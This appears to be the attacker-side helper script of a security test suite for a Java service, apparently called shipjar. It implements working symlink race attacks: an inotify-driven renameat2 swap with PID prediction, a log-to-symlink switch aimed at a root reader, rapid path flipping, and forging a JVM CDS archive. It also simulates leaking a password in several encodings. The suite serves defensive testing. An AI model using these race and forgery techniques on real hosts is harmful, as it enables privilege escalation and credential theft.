# The attacker's side of tests/attacks, run inside a test host as the
# service user or nobody (`python3 -c <this> MODE ARGS…`). Standard library
# only: inotify through ctypes, polled without sleeping so that a swap lands
# microseconds after the event.
import base64
import ctypes
import json
import os
import struct
import sys
import time
import urllib.parse

libc = ctypes.CDLL(None, use_errno=True)
IN_CREATE = 0x100
IN_CLOSE_WRITE = 0x8
IN_MOVED_TO = 0x80
IN_NONBLOCK = 0o4000
MAGIC = struct.pack("<I", 0xF00BABA2)


def watch(path, mask):
    fd = libc.inotify_init1(IN_NONBLOCK)
    if fd < 0 or libc.inotify_add_watch(fd, path.encode(), mask) < 0:
        raise OSError(ctypes.get_errno(), "inotify " + path)
    return fd


def events(fd):
    """Names in the events read so far (non-blocking: [] when none)."""
    try:
        buf = os.read(fd, 65536)
    except BlockingIOError:
        return []
    names, i = [], 0
    while i < len(buf):
        _wd, _mask, _cookie, n = struct.unpack_from("iIII", buf, i)
        names.append(buf[i + 16 : i + 16 + n].rstrip(b"\0").decode())
        i += 16 + n
    return names


def cds_race(shared, target, seconds):
    """Each new dump dir shared/.shipjar-cds-PID is swapped, in one system
    call (renameat2 RENAME_EXCHANGE), for a symlink to target made
    beforehand. Found by inotify, polled; and, once two starts showed how
    far apart their supervisors' pids are, the next one's name is predicted
    and the swap tried on it in a tight loop, so that
    it lands within a microsecond or two of the mkdir."""
    fd = watch(shared, IN_CREATE)
    link = os.path.join(shared, ".lnk")
    blink, bshared = link.encode(), shared.encode() + b"/"
    prefix = b".shipjar-cds-"
    swap, read = libc.renameat2, os.read
    end, pids, spins = time.monotonic() + seconds, [], 0
    guesses = []
    os.symlink(target, link)

    def swapped(name, how):
        # The real directory, now under .lnk, is kept aside.
        os.rename(blink, bshared + b".moved" + name)
        os.symlink(target, link)
        pids.append(int(name[len(prefix) :]))
        print("swapped", name.decode(), how, flush=True)
        guesses.clear()
        if len(pids) >= 2 and 0 < pids[-1] - pids[-2] < 1000:
            guesses.append(prefix + str(2 * pids[-1] - pids[-2]).encode())

    while True:
        if guesses:
            # Nothing but the swap until the predicted directory appears (or 4 s pass).
            g, path, until = guesses[0], bshared + guesses[0], time.monotonic() + 4
            while swap(-100, blink, -100, path, 2) != 0:
                spins += 1
                if spins & 0xFFF == 0 and time.monotonic() > until:
                    break
            else:
                swapped(g, "predicted")
                continue
            guesses.clear()
        try:
            buf = read(fd, 4096)
        except BlockingIOError:
            spins += 1
            if spins & 0xFFF == 0 and time.monotonic() > end:
                break
            continue
        i = 0
        while i < len(buf):
            n = struct.unpack_from("I", buf, i + 12)[0]
            name = buf[i + 16 : i + 16 + n].rstrip(b"\0")
            i += 16 + n
            if not name.startswith(prefix) or name.endswith(b".lnk"):
                continue
            if os.path.islink(bshared + name):
                continue
            if swap(-100, blink, -100, bshared + name, 2) == 0:
                swapped(name, "on its event")
            else:
                print("missed", name.decode(), ctypes.get_errno(), flush=True)
    print("swaps", len(pids), flush=True)


def link_when(target, path, needle, seconds):
    """Once root has written `needle` into `path` (the service's last words
    before it fails), `path` is replaced by a symlink to `target`: root's
    reader of the log's end must not follow it."""
    fd = watch(os.path.dirname(path), 0x2)  # IN_MODIFY
    base, tmp = os.path.basename(path), path + ".lnk"
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if base not in events(fd) or os.path.islink(path):
            continue
        try:
            with open(path, "rb") as f:
                f.seek(max(0, os.fstat(f.fileno()).st_size - 4096))
                if needle.encode() not in f.read():
                    continue
            os.symlink(target, tmp)
            os.rename(tmp, path)
            print("linked", flush=True)
        except OSError:
            pass


def flip(target, path, seconds):
    """Swaps `path` with a symlink to `target` and back, in one system call
    each (RENAME_EXCHANGE), as fast as it can: any reader of `path` that
    follows links lands on `target` half of the time."""
    alt = (path + ".x").encode()
    os.symlink(target, alt)
    print("flipping", path, flush=True)
    bpath, swap, flips = path.encode(), libc.renameat2, 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for _ in range(1000):
            swap(-100, bpath, -100, alt, 2)
        flips += 1000
    if os.path.islink(path):
        swap(-100, bpath, -100, alt, 2)
    print("flips", flips, flush=True)


def dump_dirs():
    """Directories the running JVMs record their classes and dump their
    class data into (from their -XX:DumpLoadedClassList= or
    -XX:SharedArchiveFile= of a -Xshare:dump, readable to their own user)."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv = open("/proc/%s/cmdline" % pid, "rb").read().split(b"\0")
        except OSError:
            continue
        for a in argv:
            if a.startswith(b"-XX:DumpLoadedClassList="):
                found.append(os.path.dirname(a.split(b"=", 1)[1].decode()))
    return found


def sparse_dump(size, seconds):
    """The JVM's dump, once written, is replaced by a sparse file of `size`
    bytes that starts with the archive's magic."""
    end = time.monotonic() + seconds
    fds = {}
    for d in dump_dirs():
        try:
            fake = os.path.join(d, ".fake")
            with open(fake, "wb") as f:
                f.write(MAGIC + b"forged by the attack suite")
                f.truncate(size)
            fds[watch(d, IN_CLOSE_WRITE | IN_MOVED_TO)] = d
        except OSError as e:
            print("cannot prepare", d, e, flush=True)
    print("ready", len(fds), flush=True)
    swapped = 0
    while time.monotonic() < end and fds and not swapped:
        for fd, d in fds.items():
            seen = events(fd)
            if seen:
                print("events", seen, flush=True)
            if "cds.jsa" in seen:
                try:
                    os.rename(os.path.join(d, ".fake"), os.path.join(d, "cds.jsa"))
                    swapped += 1
                except OSError:
                    pass
    print("swapped", swapped, flush=True)


def forms(value):
    """Every form of a secret the suite searches for (see forms() in main.rs)."""
    out = [
        value,
        json.dumps(value, ensure_ascii=False)[1:-1],
        urllib.parse.quote(value, safe=""),
        base64.b64encode(value.encode()).decode(),
        "'" + value.replace("'", "'\\''") + "'",
    ]
    out += [line for line in value.split("\n") if len(line) >= 8]
    return out


def leak(properties, dest):
    """What a compromised service prints: its secret in every form, one per
    line, to stdout (a hook: only on stage `sec`) or appended to `dest` (its log)."""
    if dest == "-" and os.environ.get("SHIPJAR_STAGE") != "sec":
        return
    text = open(properties, encoding="utf-8").read()
    value = text.split("password=", 1)[1]
    value = value.split("\nend-of-secret", 1)[0]
    lines = "".join("leaked: " + f + "\n" for f in forms(value))
    if dest == "-":
        sys.stdout.write(lines)
    else:
        with open(dest, "a", encoding="utf-8") as f:
            f.write(lines)


def main():
    mode = sys.argv[1]
    if mode == "cds-race":
        cds_race(sys.argv[2], sys.argv[3], float(sys.argv[4]))
    elif mode == "sparse-dump":
        sparse_dump(int(sys.argv[2]), float(sys.argv[3]))
    elif mode == "link-when":
        link_when(sys.argv[2], sys.argv[3], sys.argv[4], float(sys.argv[5]))
    elif mode == "flip":
        flip(sys.argv[2], sys.argv[3], float(sys.argv[4]))
    elif mode == "dump-dirs":
        print("\n".join(dump_dirs()))
    elif mode == "leak":
        leak(sys.argv[2], sys.argv[3])
    else:
        sys.exit("unknown mode " + mode)


main()
